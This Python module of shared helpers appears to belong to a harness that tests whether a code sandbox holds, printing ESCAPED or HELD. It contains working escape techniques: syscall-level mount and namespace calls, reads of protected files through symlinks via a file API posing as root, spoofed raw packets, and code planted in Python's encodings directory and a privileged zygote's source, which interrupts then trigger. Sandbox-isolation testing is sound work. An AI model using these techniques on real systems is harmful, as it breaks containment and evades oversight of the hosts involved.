"""What every attack starts with. The harness puts this in front of each program."""

import ctypes
import errno
import os
import platform
import socket
import struct
import sys

# The few system calls that the attacks make by number.
CALLS = {
    "x86_64": {
        "mount": 165, "umount2": 166, "pivot_root": 155, "fsopen": 430, "fsconfig": 431, "fsmount": 432,
        "open_tree": 428, "mount_setattr": 442, "unshare": 272, "clone": 56, "clone3": 435, "setns": 308,
        "pidfd_open": 434, "pidfd_getfd": 438, "process_vm_readv": 310, "ptrace": 101, "kcmp": 312,
        "socket": 41, "io_uring_setup": 425, "bpf": 321, "userfaultfd": 323, "perf_event_open": 298,
        "add_key": 248, "keyctl": 250, "init_module": 175, "delete_module": 176, "kexec_load": 246,
        "reboot": 169, "swapon": 167, "acct": 163, "adjtimex": 159, "fanotify_init": 300,
        "name_to_handle_at": 303, "open_by_handle_at": 304, "sethostname": 170, "syslog": 103,
        "personality": 135, "capset": 126, "quotactl": 179, "request_key": 249,
        "cachestat": 451, "socketpair": 53, "io_setup": 206, "io_destroy": 207, "mincore": 27,
        "memfd_create": 319, "get_mempolicy": 239, "madvise": 28, "seccomp": 317,
    },
    "aarch64": {
        "mount": 40, "umount2": 39, "pivot_root": 41, "fsopen": 430, "fsconfig": 431, "fsmount": 432,
        "open_tree": 428, "mount_setattr": 442, "unshare": 97, "clone": 220, "clone3": 435, "setns": 268,
        "pidfd_open": 434, "pidfd_getfd": 438, "process_vm_readv": 270, "ptrace": 117, "kcmp": 272,
        "socket": 198, "io_uring_setup": 425, "bpf": 280, "userfaultfd": 282, "perf_event_open": 241,
        "add_key": 217, "keyctl": 219, "init_module": 105, "delete_module": 106, "kexec_load": 104,
        "reboot": 142, "swapon": 224, "acct": 89, "adjtimex": 171, "fanotify_init": 262,
        "name_to_handle_at": 264, "open_by_handle_at": 265, "sethostname": 161, "syslog": 116,
        "personality": 92, "capset": 91, "quotactl": 60, "request_key": 218,
        "cachestat": 451, "socketpair": 199, "io_setup": 0, "io_destroy": 1, "mincore": 232,
        "memfd_create": 279, "get_mempolicy": 236, "madvise": 233, "seccomp": 277,
    },
}[platform.machine()]

PROC = 0x9FA0
AT_FDCWD = -100
SENTINEL = "a sentinel of the machine"

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(name, *arguments):
    """Makes a system call; an error is raised."""
    converted = [
        ctypes.c_long(argument) if isinstance(argument, int) else argument for argument in arguments
    ]
    answer = libc.syscall(ctypes.c_long(CALLS[name]), *converted)
    if answer == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return answer


def escaped(evidence):
    print("ESCAPED", str(evidence).replace("\n", " ")[:200], flush=True)
    sys.exit(0)


def held(reason):
    print("HELD", str(reason).replace("\n", " ")[:200], flush=True)
    sys.exit(0)


def attack(attempt, reached=()):
    """An attempt that returns anything has succeeded, and so has one that fails with an error
    that only somebody with the right to try is given."""
    try:
        evidence = attempt()
    except OSError as error:
        name = errno.errorcode.get(error.errno, str(error))
        if error.errno in reached:
            escaped(f"the kernel got as far as {name}")
        held(name)
    if evidence is None:
        held("nothing there")
    escaped(evidence)


def open_on_proc(path, flags):
    """Opens a file of the kernel without reading or writing: the right to is what is proved."""
    file = os.open(path, flags | os.O_NONBLOCK | os.O_CLOEXEC)
    kind = ctypes.create_string_buffer(256)
    if libc.fstatfs(file, kind) != 0:
        raise OSError(ctypes.get_errno(), path)
    if struct.unpack_from("q", kind)[0] != PROC:
        return None
    return f"opened {path}"


def mount(source, target, kind, flags=0, data=None):
    call("mount", source.encode(), target.encode(), kind.encode() if kind else None, flags, data)
    return f"mounted {kind or source} at {target}"


def connect(address, port, family=socket.AF_INET):
    """What somebody who is not to be reached says."""
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect((address, port))
        connection.settimeout(5)
        connection.sendall(b"who are you\n")
        answer = connection.recv(200)
    return f"{address}:{port} says {answer!r}"


def datagram(address, port, family=socket.AF_INET, message=b"who are you"):
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(2)
        sender.sendto(message, (address, port))
        answer, source = sender.recvfrom(200)
    return f"{source[0]} says {answer!r}"


def kept_copy(arrange=lambda sender: None, ancillary=()):
    """What the kernel has kept of a datagram that was sent and has arrived."""
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender,
    ):
        receiver.bind(("127.0.0.1", 0))
        receiver.settimeout(5)
        arrange(sender)
        sender.sendmsg([b"x" * 1000], ancillary, 0, receiver.getsockname())
        receiver.recv(2000)
        sender.setblocking(False)
        copy = sender.recvmsg(2000, 500, socket.MSG_ERRQUEUE)[0]
    return f"{len(copy)} bytes"


def harmless_filter():
    """A filter of system calls that allows all, and the promise that somebody without rights gives to install one."""
    PR_SET_NO_NEW_PRIVS = 38
    if libc.prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "no new privileges")
    instruction = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000))
    program = ctypes.create_string_buffer(struct.pack("HL", 1, ctypes.addressof(instruction)))
    program.instruction = instruction
    return program


def unused_source(rank):
    """A file of the template that no program has mapped: one of the largest sources of Python's library."""
    sources = (entry for entry in os.scandir(os.path.dirname(os.__file__)) if entry.name.endswith(".py"))
    return sorted(sources, key=lambda entry: entry.stat().st_size)[-1 - rank].path


def faults(file):
    """How often the disk was waited for while each page of a file was touched; nothing if it was in memory."""
    import mmap
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_majflt
    with mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as pages:
        sum(pages[start] for start in range(0, len(pages), mmap.PAGESIZE))
    waited = resource.getrusage(resource.RUSAGE_SELF).ru_majflt - before
    return f"{waited} faults" if waited else None


def given(name):
    """What the harness tells every attack."""
    return os.environ["ATTACK_" + name]


def gateway():
    with open("/etc/resolv.conf") as file:
        return file.read().split()[1]


def in_child(attempt):
    """Runs an attempt in a child, because it may be killed for it or must be left by it."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writer, ("+" + str(attempt())).encode())
        except OSError as error:
            os.write(writer, b"-%d" % error.errno)
        os._exit(0)
    os.close(writer)
    answer = b""
    while piece := os.read(reader, 4096):
        answer += piece
    _, status = os.waitpid(child, 0)
    if answer.startswith(b"+"):
        return answer[1:].decode()
    if answer.startswith(b"-"):
        raise OSError(int(answer[1:]), os.strerror(int(answer[1:])))
    raise OSError(errno.EINTR, f"ended by signal {os.WTERMSIG(status)}")


def agent():
    """The process id of the agent: it started this program, or the shell that did."""
    return 1 if os.path.exists("/proc/1/comm") and open("/proc/1/comm").read().strip() == "skep" else os.getppid()


def resolve(name, denied, server=None, kind=1, times=1, over_tcp=False):
    """Asks for the addresses of a name, and looks for one that is denied."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    server = server or gateway()
    seen = set()
    for _ in range(times):
        if over_tcp:
            with socket.create_connection((server, 53), timeout=5) as connection:
                connection.sendall(struct.pack(">H", len(question)) + question)
                answer = connection.recv(4096)[2:]
        else:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
                asker.settimeout(5)
                asker.connect((server, 53))
                asker.send(question)
                answer = asker.recv(4096)
        # An address stands behind its length, whatever the rest of the answer is.
        if b"\0\x04" + socket.inet_aton(denied) in answer[len(question) :]:
            seen.add(denied)
    return f"{name} leads to {denied}" if seen else None


def ask_files(method, path, body=None, query=None, timeout=5):
    """What the file API answers, as its caller hears it."""
    import urllib.error
    import urllib.parse
    import urllib.request

    query = "?" + urllib.parse.urlencode(query) if query else ""
    request = urllib.request.Request(given("FILES") + path + query, data=body, method=method)
    request.add_header("X-Access-Token", given("TOKEN"))
    request.add_header("Authorization", "Basic cm9vdDo=")
    if body is not None:
        kind = "application/octet-stream" if path == "/files" else "application/json"
        request.add_header("Content-Type", kind)
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return answer.read(1 << 20)
    except urllib.error.HTTPError as error:
        held(f"{error.code} {error.read(120).decode(errors='replace')}")


def read_through(target):
    """Reads what a link leads to, through the file API."""
    import tempfile

    link = os.path.join(tempfile.mkdtemp(), "innocent.txt")
    os.symlink(target, link)
    content = ask_files("GET", "/files", query={"path": link, "username": "root"})
    return f"{len(content)} bytes of {target}" if content else None


def ask_agent(call, timeout=5, **request):
    """What a call of the agent answers; nothing if it is refused."""
    import json
    import urllib.request

    body = json.dumps(request).encode()
    request = urllib.request.Request(f"{given('FILES')}/{call}", data=body, method="POST")
    request.add_header("X-Access-Token", given("TOKEN"))
    request.add_header("Authorization", "Basic cm9vdDo=")
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=timeout) as answer:
            return json.loads(answer.read(1 << 20))
    except OSError:
        return None


def behind_descriptors(attempt):
    """Tries something in the directories that the file API holds open and nobody else can reach. In the agent these
    are cgroups of the machine."""
    for number in range(3, 48):
        if evidence := attempt(f"/proc/self/fd/{number}"):
            return f"descriptor {number}: {evidence}"
    return None


def take_turns(kind):
    """Holds a lock between attacks that run beside each other, until the file that it answers is closed."""
    import fcntl

    file = open("/tmp/attacks.lock", "a")
    fcntl.flock(file, getattr(fcntl, kind))
    return file


def start_process(folder, program, *arguments):
    """The output of a process that whoever serves the file API starts in a folder."""
    with take_turns("LOCK_SH"):
        return start_process_now(folder, program, *arguments)


def start_process_now(folder, program, *arguments):
    import base64
    import json
    import urllib.request

    start = {"process": {"cmd": program, "args": arguments, "cwd": folder}, "stdin": False}
    body = json.dumps(start).encode()
    body = struct.pack(">BI", 0, len(body)) + body
    request = urllib.request.Request(given("FILES") + "/process.Process/Start", data=body, method="POST")
    request.add_header("X-Access-Token", given("TOKEN"))
    request.add_header("Authorization", "Basic cm9vdDo=")
    request.add_header("Content-Type", "application/connect+json")
    try:
        with urllib.request.urlopen(request, timeout=5) as stream:
            answer = stream.read(1 << 20)
    except OSError:
        return ""
    output = b""
    while len(answer) >= 5:
        length = struct.unpack_from(">BI", answer)[1]
        message, answer = json.loads(answer[5 : 5 + length] or b"{}"), answer[5 + length :]
        data = message.get("event", {}).get("data", {})
        output += base64.b64decode(data.get("stdout", ""))
    return output.decode().strip()


def effective(program):
    """The effective capabilities of a program that prints its own."""
    import subprocess

    script = "print([line for line in open('/proc/self/status') if line.startswith('CapEff')][0].split()[1])"
    return int(subprocess.run([*program, "-I", "-c", script], check=True, capture_output=True).stdout, 16)


CAP_SYS_ADMIN = 21


def send_as(address):
    """Sends a word from somebody else's address, and asks the world whether it was heard."""
    import time
    import uuid

    word, witness = uuid.uuid4().hex, "203.0.113.7"
    datagram = struct.pack(">HHHH", 4242, 7, 8 + len(word), 0) + word.encode()
    head = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton(address), socket.inet_aton(witness),
    )
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        for _ in range(3):
            sender.sendto(head + datagram, (witness, 0))
            time.sleep(0.1)
    with socket.create_connection((witness, 7), timeout=5) as connection:
        connection.sendall(word.encode() + b"\n")
        seen = connection.recv(100).decode()
    return None if seen == "nobody" else f"the world heard it from {seen}"


def ask_interpreter(method, path, body=None):
    """What the interpreter of this sandbox answers to the sandbox's owner."""
    import json
    import urllib.request

    request = urllib.request.Request("http://127.0.0.1:49999" + path, data=body, method=method)
    request.add_header("X-Access-Token", given("TOKEN"))
    request.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(request, timeout=30) as answer:
        return json.loads(answer.read())


def while_kernels_come(look, seconds=25, enough="/tmp/enough"):
    """Makes contexts one after another, until there is a file that says it is enough, and looks at every process that comes
    with them, again and again, until there is evidence or the time is over. Ends with the verdict."""
    import contextlib
    import time

    with contextlib.suppress(FileNotFoundError):
        os.remove(enough)
    before = {int(name) for name in os.listdir("/proc") if name.isdigit()}
    end, seen, reader = time.monotonic() + seconds, set(), make_contexts(enough)
    before |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
    while time.monotonic() < end:
        for number in {int(name) for name in os.listdir("/proc") if name.isdigit()} - before:
            seen.add(number)
            if evidence := look(number):
                escaped(evidence)
        # A fork on its way takes longer than this, and needs the processor, too.
        time.sleep(0.0005)
    os.set_blocking(reader, False)
    kernels = len(os.read(reader, 1 << 16))
    held(f"{kernels} kernels, {len(seen)} processes")


def make_contexts(enough):
    """Makes and removes contexts in a process of its own, which tells of each by a byte, and ends with this one."""
    reader, writer = os.pipe()
    parent = os.getpid()
    if os.fork() != 0:
        os.close(writer)
        return reader
    # Whoever waits for the end of the attack's output must not wait for the last request, which a fork that was
    # interrupted may never answer.
    nowhere = os.open(os.devnull, os.O_WRONLY)
    os.dup2(nowhere, 1)
    os.dup2(nowhere, 2)
    while os.getppid() == parent and not os.path.exists(enough):
        try:
            ask_interpreter("DELETE", "/contexts/" + ask_interpreter("POST", "/contexts", b"{}")["id"])
            os.write(writer, b".")
        except Exception:
            # A kernel that was interrupted at the wrong time, and so on. Without any there is no byte, and no verdict.
            continue
    os._exit(0)


def rights(number):
    """The rights of a fork of the zygote that this sandbox cannot have."""
    if not is_forked(number):
        return 0
    try:
        with open(f"/proc/{number}/status") as file:
            fields = dict(line.split(":", 1) for line in file)
        with open("/proc/self/status") as file:
            own = dict(line.split(":", 1) for line in file)
    except OSError:
        return 0
    beyond = ~int(own["CapBnd"], 16)
    return (int(fields["CapPrm"], 16) | int(fields["CapBnd"], 16)) & beyond


def is_forked(number):
    """Whether a process has come from the zygote."""
    try:
        with open(f"/proc/{number}/cmdline", "rb") as file:
            return b"skep_kernel.zygote" in file.read()
    except OSError:
        return False


def plant(code):
    """Has code run by whoever shows a traceback of the zygote in this sandbox: its source names an encoding."""
    import glob

    for folder in glob.glob("/usr/lib/python3.*/encodings"):
        with open(folder + "/planted.py", "w") as file:
            file.write(code)
    for source in glob.glob("/opt/venv/lib/python3.*/site-packages/skep_kernel/zygote.py"):
        with open(source) as file:
            text = file.read()
        with open(source, "w") as file:
            file.write("# coding: planted\n" + text)


def interrupt(number, interrupted=set(), met=set()):
    """Interrupts each fork once, while it has rights; and some that have none when they are first seen."""
    import random
    import signal

    is_new = number not in met
    met.add(number)
    if number in interrupted or not (rights(number) or (is_new and is_forked(number) and random.random() < 0.05)):
        return
    try:
        os.kill(number, signal.SIGINT)
        # A second time would hit what the first has brought about.
        interrupted.add(number)
    except OSError:
        pass
